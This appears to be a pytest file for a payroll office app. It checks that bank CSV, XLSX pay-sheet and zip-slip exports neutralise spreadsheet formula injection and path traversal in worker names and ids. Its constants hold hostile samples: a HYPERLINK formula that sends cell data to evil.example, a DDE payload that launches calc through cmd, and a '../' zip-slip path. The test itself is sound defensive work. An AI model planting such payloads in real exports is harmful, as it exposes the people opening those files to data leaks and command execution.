"""Issue #15 items 1 and 7 on the export side: formulas and zip-slip through the real web exports."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from office.db import open_office
from office.demo.sample_events import EventFactory
from office.exports import BankFormat, Payee, bank_csv, neutralise, slug, unique_entry_names
from office.web.app import create_app
from sync.central.tables import workers
from tests.office_fixtures import JANUARY, PASSWORDS, close_by_checklist, csrf_of, seed_office

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A3,"click")'
DDE = "=cmd|' /C calc'!A0"
ZIPSLIP = "../../../../var/zipslip"


@pytest.mark.parametrize("text", [HYPERLINK, DDE, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised_and_plain_text_is_kept(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert neutralise("张伟") == "张伟" and neutralise(-5) == -5 and neutralise(None) is None


def test_slugs_cannot_climb_out_and_stay_unique() -> None:
    assert slug(ZIPSLIP) == "var_zipslip" and slug("..") == "_" and slug("w01") == "w01"
    names = unique_entry_names(["a/b", "a\\b", "w01"], ".png")
    assert names == {"a/b": "a_b.png", "a\\b": "a_b-2.png", "w01": "w01.png"}


def test_bank_csv_keeps_a_formula_name_as_text() -> None:
    data = bank_csv([Payee("w01", HYPERLINK, "6222", None, None, 100)], BankFormat(encoding="utf-8-sig"), "p").data
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert row[1] == "'" + HYPERLINK


@pytest.fixture
def office(central_url: str):  # type: ignore[no-untyped-def]
    engine = open_office(central_url)
    seed_office(engine)
    with engine.begin() as conn:
        conn.execute(update(workers).where(workers.c.worker_id == "w01").values(name=HYPERLINK))
        conn.execute(update(workers).where(workers.c.worker_id == "w02").values(name=DDE))
        # A worker id the ingest once stored unchecked (before it refused unsafe ids).
        f = EventFactory(station_id="st-old")
        f.tally(ZIPSLIP, "bead-stringing", 10, JANUARY, "11:00")
        f.insert(conn)
    with TestClient(create_app(engine, "test-secret")) as client:
        yield client
    engine.dispose()


def test_exports_of_a_period_hold_no_formula_and_no_path(office: TestClient) -> None:
    form = {"username": "clerk1", "password": PASSWORDS["clerk1"], "csrf": csrf_of(office.get("/login").text)}
    office.post("/login", data=form)
    csrf = csrf_of(office.get("/periods").text)
    office.post("/periods", data={"start": "2026-01-01", "end": "2026-01-31", "csrf": csrf})
    close_by_checklist(office, 1)

    bank = office.get("/periods/1/bank.csv?encoding=utf-8-sig").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(bank)))
    assert [r[1] for r in rows[1:]] == ["'" + HYPERLINK, "'" + DDE]

    book = openpyxl.load_workbook(io.BytesIO(office.get("/periods/1/paysheet.xlsx").content))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert all(re.fullmatch(r"=SUM\([A-Z]+\d+:[A-Z]+\d+\)", f) for f in formulas), "a formula reached the pay sheet"
    names = {c.value: c for c in cells if c.value in (HYPERLINK, DDE)}
    assert set(names) == {HYPERLINK, DDE}
    assert all(c.quotePrefix and c.data_type == "s" for c in names.values())

    archive = zipfile.ZipFile(io.BytesIO(office.get("/periods/1/slips.zip").content))
    entries = archive.namelist()
    assert "var_zipslip.png" in entries
    assert all("/" not in e and "\\" not in e and not e.startswith(".") for e in entries)
